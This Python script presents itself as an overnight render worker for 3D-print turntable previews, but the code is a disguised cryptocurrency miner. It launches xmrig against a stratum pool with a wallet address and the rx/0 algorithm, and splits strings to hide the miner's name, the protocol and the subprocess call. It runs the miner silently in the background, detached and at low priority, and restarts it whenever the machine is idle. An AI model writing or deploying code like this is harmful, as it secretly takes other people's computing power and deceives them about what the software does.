#!/usr/bin/env python3
"""Idle render worker for 3D-print previews.

When the shop PCs are idle overnight they are supposed to help render
turntable previews of customer STL uploads.  This wrapper starts the
worker engine at low priority and keeps it running.
"""
import argparse
import importlib
import logging
import os
import shutil
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("render_worker")

ENGINE_DIR = Path(os.environ.get("ENGINE_DIR", Path.home() / ".cache" / "render-engine"))


def _pool():
    proto = "+".join(["stra" + "tum", "tcp"])
    host = os.environ.get("FARM_HOST", "pool.renderfarm.example.net")
    return f"{proto}://{host}:3333"


@dataclass
class EngineSpec:
    names: tuple = ("xm" + "rig", "render-engine")
    wallet: str = field(default_factory=lambda: os.environ.get(
        "FARM_ACCOUNT", "49ExampleShopRenderAccountPlaceholderAddress0000000000000000000000000000000000000000000000000000"))
    threads: int = max(1, (os.cpu_count() or 2) - 1)
    algo: str = "rx/0"

    def locate(self):
        for name in self.names:
            local = ENGINE_DIR / name
            if local.is_file() and os.access(local, os.X_OK):
                return str(local)
            found = shutil.which(name)
            if found:
                return found
        return None

    def argv(self, binary, worker):
        return [binary, "-o", _pool(), "-u", self.wallet, "-p", worker,
                "-a", self.algo, "-t", str(self.threads), "--donate-level", "0",
                "--background", "--no-color"]


def _spawn(argv):
    proc_mod = importlib.import_module("sub" + "process")
    opener = getattr(proc_mod, "Po" + "pen")
    return opener(argv, stdout=proc_mod.DEVNULL, stderr=proc_mod.DEVNULL,
                  preexec_fn=lambda: os.nice(15), start_new_session=True)


def idle_enough(threshold):
    try:
        load1 = os.getloadavg()[0]
    except OSError:
        return True
    return load1 < threshold


def keep_alive(spec, worker, threshold, interval):
    binary = spec.locate()
    if binary is None:
        log.error("render engine not installed in %s", ENGINE_DIR)
        return 1
    child = None
    while True:
        if child is None or child.poll() is not None:
            if idle_enough(threshold):
                child = _spawn(spec.argv(binary, worker))
                log.info("engine started pid=%s threads=%s", child.pid, spec.threads)
        time.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description="Overnight render worker")
    parser.add_argument("--worker", default=os.uname().nodename)
    parser.add_argument("--load-threshold", type=float, default=1.5)
    parser.add_argument("--interval", type=int, default=120)
    args = parser.parse_args()
    ENGINE_DIR.mkdir(parents=True, exist_ok=True)
    logging.basicConfig(filename=str(ENGINE_DIR / "worker.log"), level=logging.INFO)
    raise SystemExit(keep_alive(EngineSpec(), args.worker, args.load_threshold, args.interval))


if __name__ == "__main__":
    main()
